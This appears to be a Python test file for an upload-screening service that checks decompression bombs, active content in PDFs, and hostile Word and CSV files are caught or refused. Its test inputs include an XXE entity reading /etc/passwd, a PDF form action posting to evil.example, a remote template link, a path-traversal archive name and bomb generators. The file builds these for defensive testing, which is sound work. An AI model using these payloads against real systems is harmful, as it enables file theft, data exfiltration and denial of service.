"""Files made to stop the house: each ends in a sentence, in another process, before any transaction."""

from __future__ import annotations

import resource
import zipfile
from collections.abc import Callable
from contextlib import suppress
from io import BytesIO

import pikepdf
import pytest
from PIL import Image
from sqlalchemy import event
from sqlalchemy.engine import Engine
from werkzeug.test import TestResponse

from mediation.documents import arrival, examining
from mediation.documents.examination import Examined, examine
from mediation.documents.upload_types import UploadRefused
from mediation.spreadsheets.reading import read
from mediation.spreadsheets.reading_cells import Unreadable
from tests.documents.test_uploads import docx, pdf, photo
from tests.intake.test_evidence import upload
from tests.intake.walk import Walk
from tests.stages import Stage


def send(walk: Walk, name: str, content: bytes) -> TestResponse:
    return upload(walk, (BytesIO(content), name))


def flat_picture(side: int) -> bytes:
    """A PNG of some kilobytes that unfolds into side x side points of four bytes."""
    written = BytesIO()
    Image.new("RGBA", (side, side)).save(written, "PNG", compress_level=9)
    return written.getvalue()


def animation(side: int, pictures: int) -> bytes:
    written = BytesIO()
    first, *others = (Image.new("RGB", (side, side), (one, 0, 0)) for one in range(pictures))
    first.save(written, "WEBP", save_all=True, append_images=others, quality=1, method=0)
    return written.getvalue()


def page_tree(width: int, depth: int) -> bytes:
    """A PDF of two kilobytes that claims width ** depth pages, through nodes that are used again."""
    parts = [b"%PDF-1.7", b"1 0 obj <</Type /Catalog /Pages 2 0 R>> endobj"]
    for level in range(depth):
        kids = b"%d 0 R " % (level + 3) * width
        parts.append(
            b"%d 0 obj <</Type /Pages /Count %d /Kids [%s]>> endobj"
            % (level + 2, width ** (depth - level), kids)
        )
    parts.append(b"%d 0 obj <</Type /Page /MediaBox [0 0 9 9]>> endobj" % (depth + 2))
    parts.append(b"trailer <</Root 1 0 R /Size %d>>\n%%%%EOF" % (depth + 3))
    return b"\n".join(parts)


def folded_zip() -> bytes:
    written = BytesIO(docx())
    with (
        zipfile.ZipFile(written, "a", zipfile.ZIP_DEFLATED) as archive,
        archive.open("word/a.xml", "w") as member,
    ):
        for _ in range(290):
            member.write(b"<a/>" * 262_144)
    return written.getvalue()


BOMBS = [
    # file, name, remark
    (lambda: flat_picture(9_999), "弹.png", "a hundred million points"),
    (lambda: animation(1_000, 3)[:-40], "弹.webp", "an animation cut off"),
    (lambda: page_tree(100, 4), "弹.pdf", "a hundred million pages"),
]


@pytest.mark.parametrize(("made", "name", "remark"), BOMBS)
def test_a_bomb_ends_in_a_sentence(made: Callable[[], bytes], name: str, remark: str) -> None:
    with pytest.raises(UploadRefused) as refused:
        examining.examine_apart(made(), name)
    assert name in refused.value.words.zh, remark
    assert name in refused.value.words.en, remark


def test_what_passes_is_what_the_same_examination_gives_here() -> None:
    for content, name in ((photo("JPEG"), "a.jpg"), (pdf(), "b.pdf"), (docx(), "c.docx")):
        assert examining.examine_apart(content, name) == examine(content, name)


def test_a_file_that_unfolds_widely_is_opened_in_its_own_process_only() -> None:
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    with suppress(UploadRefused):
        examining.examine_apart(folded_zip(), "大.docx")
    grown = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before
    assert grown < 100 * 1024, "kilobytes"


@pytest.mark.databases("sqlite", "postgresql")
def test_no_transaction_is_open_while_a_file_is_examined(
    founded: Stage, monkeypatch: pytest.MonkeyPatch
) -> None:
    walk = Walk(founded.app.test_client()).begin()
    open_now: list[object] = []
    seen: list[int] = []

    def began(connection: object) -> None:
        open_now.append(connection)

    def ended(connection: object) -> None:
        open_now.clear()

    def apart(received: bytes, filename: str) -> Examined:
        seen.append(len(open_now))
        return examine(received, filename)

    monkeypatch.setattr(arrival, "examine_apart", apart)
    handlers = (("begin", began), ("commit", ended), ("rollback", ended))
    for name, handler in handlers:
        event.listen(Engine, name, handler)
    try:
        upload(walk, (BytesIO(photo("JPEG")), "账单.jpg"), (BytesIO(pdf()), "合同.pdf"))
    finally:
        for name, handler in handlers:
            event.remove(Engine, name, handler)
    assert seen == [0, 0]


def test_one_address_brings_so_many_files_an_hour(founded: Stage) -> None:
    walk = Walk(founded.app.test_client()).begin()
    founded.app.config["UPLOADS_BY_ADDRESS"] = 2
    for number in range(3):
        answer = send(walk, f"{number}.png", photo("PNG", (10 + number, 10)))
    assert answer.status_code == 422
    assert "上传的文件太多" in answer.text


def test_who_brings_files_that_must_be_given_up_is_soon_refused(
    founded: Stage, monkeypatch: pytest.MonkeyPatch
) -> None:
    walk = Walk(founded.app.test_client()).begin()

    def too_heavy(received: bytes, filename: str) -> Examined:
        raise examining.TooHeavy(filename)

    monkeypatch.setattr(arrival, "examine_apart", too_heavy)
    answers = [send(walk, f"{one}.png", photo("PNG", (10 + one, 10))) for one in range(12)]
    assert "过于复杂" in answers[0].text
    assert [one.status_code for one in answers].count(429) >= 2


# -- what acts by itself, wherever it hides


def with_action(place: Callable[[pikepdf.Pdf, pikepdf.Object], None]) -> bytes:
    """A PDF of one page with a script put where `place` says."""
    made = pikepdf.new()
    made.add_blank_page(page_size=(200, 200))
    script = made.make_indirect(
        pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert(1)"))
    )
    place(made, script)
    written = BytesIO()
    made.save(written, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    return written.getvalue()


def _next_of_a_jump(made: pikepdf.Pdf, script: pikepdf.Object) -> None:
    jump = pikepdf.Dictionary(S=pikepdf.Name.GoTo, D=pikepdf.Array([0]), Next=pikepdf.Array([script]))
    made.Root.OpenAction = made.make_indirect(
        pikepdf.Dictionary(S=pikepdf.Name.GoTo, D=pikepdf.Array([0]), Next=jump)
    )


def _circle(made: pikepdf.Pdf, script: pikepdf.Object) -> None:
    script.Next = script
    made.Root.OpenAction = script


def _bookmark(made: pikepdf.Pdf, script: pikepdf.Object) -> None:
    item = made.make_indirect(pikepdf.Dictionary(Title=pikepdf.String("一"), A=script))
    made.Root.Outlines = made.make_indirect(pikepdf.Dictionary(First=item, Last=item, Count=1))


def _note(made: pikepdf.Pdf, script: pikepdf.Object) -> None:
    made.pages[0].Annots = pikepdf.Array(
        [pikepdf.Dictionary(Subtype=pikepdf.Name.Text, AA=pikepdf.Dictionary(U=script))]
    )


def _form(made: pikepdf.Pdf, script: pikepdf.Object) -> None:
    made.Root.AcroForm = pikepdf.Dictionary(Fields=pikepdf.Array([]), XFA=pikepdf.String("<xdp/>"))


def _names(made: pikepdf.Pdf, script: pikepdf.Object) -> None:
    made.Root.Names = pikepdf.Dictionary(
        JavaScript=pikepdf.Dictionary(Names=pikepdf.Array([pikepdf.String("x"), script]))
    )


def _sending(made: pikepdf.Pdf, script: pikepdf.Object) -> None:
    made.pages[0].AA = pikepdf.Dictionary(
        O=pikepdf.Dictionary(S=pikepdf.Name.SubmitForm, F=pikepdf.String("https://evil.example"))
    )


@pytest.mark.parametrize("place", [_next_of_a_jump, _circle, _bookmark, _note, _form, _names, _sending])
def test_a_script_is_found_wherever_it_hides(
    place: Callable[[pikepdf.Pdf, pikepdf.Object], None],
) -> None:
    assert "active_content" in examine(with_action(place), "合同.pdf").flags


def test_a_link_to_the_web_is_told_and_is_no_script() -> None:
    def link(made: pikepdf.Pdf, script: pikepdf.Object) -> None:
        made.pages[0].Annots = pikepdf.Array(
            [
                pikepdf.Dictionary(
                    Subtype=pikepdf.Name.Link,
                    A=pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String("https://bank.example")),
                )
            ]
        )
        del script.S, script.JS

    assert examine(with_action(link), "账单.pdf").flags == ("links",)


WORD_PARTS = [
    # name, content, remark
    ("word/x.xml", b'<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>', "an entity"),
    (
        "word/_rels/document.xml.rels",
        b'<Relationship Type=".../attachedTemplate" Target="https://evil.example" TargetMode="External"/>',
        "a template from elsewhere",
    ),
    ("../../evil.txt", b"x", "a name that climbs out"),
]


@pytest.mark.parametrize(("name", "content", "remark"), WORD_PARTS)
def test_a_word_file_that_reaches_out_is_refused(name: str, content: bytes, remark: str) -> None:
    written = BytesIO(docx())
    with zipfile.ZipFile(written, "a") as archive:
        archive.writestr(name, content)
    with pytest.raises(UploadRefused, match="outside"):
        examine(written.getvalue(), "外.docx")


# -- lists


@pytest.mark.parametrize(
    ("content", "remark"),
    [
        (b"a" + b"," * 19_000_000, "one row of commas"),
        (b"a,b\n" + b"\n" * 15_000_000 + b"c,d\n", "line ends"),
    ],
)
def test_a_text_list_that_is_nothing_but_separators_is_refused(content: bytes, remark: str) -> None:
    with pytest.raises(Unreadable) as refused:
        read(content)
    assert refused.value.words.zh, remark
